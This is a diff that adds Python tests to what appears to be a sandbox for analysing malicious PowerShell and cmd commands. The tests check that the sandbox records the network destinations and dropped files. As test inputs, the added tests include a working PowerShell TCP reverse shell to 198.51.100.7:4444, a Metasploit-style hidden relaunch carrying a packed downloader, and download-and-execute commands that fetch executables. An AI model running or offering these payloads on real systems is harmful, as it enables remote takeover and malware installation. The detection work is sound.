@@ -183,3 +183,48 @@ def test_what_is_not_understood_still_says_where_it_would_go() -> None:
     told = Told()
     told.run(f"powershell -c \"class X {{ [string]$a = )( '{URL}' }}\"")
     assert told.wished == [URL]
+
+
+def test_a_reverse_shell_is_a_wish_and_its_loop_ends() -> None:
+    told = Told()
+    out = told.run(
+        "powershell -Command \"$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7',4444);$s = $c.GetStream();"
+        "[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName "
+        'System.Text.ASCIIEncoding).GetString($b,0, $i);$r = (iex $d 2>&1 | Out-String );$s.Flush()};$c.Close()"'
+    )
+    assert told.wished == ["tcp://198.51.100.7:4444/"]
+    assert out == ""
+
+
+def test_what_metasploit_starts_itself_again_with() -> None:
+    told = Told(outside={URL: PROGRAM})
+    told.run(
+        '%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4)'
+        "{$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'};"
+        "$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;"
+        "$s.Arguments='-nop -w hidden -c &([scriptblock]::create((New-Object IO."
+        "StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String(''"
+        + packed(DOWNLOADER)
+        + "''))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()))';"
+        '$s.UseShellExecute=$false;$p=[System.Diagnostics.Process]::Start($s);"'
+    )
+    assert told.wished == [URL]
+    assert DOWNLOADER.encode() in [kept.data for kept in told.kept]
+
+
+def test_a_command_that_was_escaped_once_too_often() -> None:
+    told = Told(outside={URL: PROGRAM})
+    told.run(f'cmd /c "powershell -nop -c \\"iwr \'{URL}\' -OutFile y.exe\\""')
+    assert told.wished == [URL]
+
+
+def test_the_machine_chooses_its_sample() -> None:
+    told = Told(outside={"http://198.51.100.7/64.exe": PROGRAM})
+    told.run(
+        "powershell -c \"if((gwmi Win32_OperatingSystem).OSArchitecture -like '*64*')"
+        "{iwr http://198.51.100.7/64.exe -o $env:TEMP\\a.exe}else{iwr http://198.51.100.7/32.exe -o $env:TEMP\\a.exe};"
+        ' & $env:TEMP\\a.exe"'
+    )
+    assert told.wished == ["http://198.51.100.7/64.exe"]
+    assert told.file("c:\\windows\\temp\\a.exe") == PROGRAM
+    assert told.status == 0
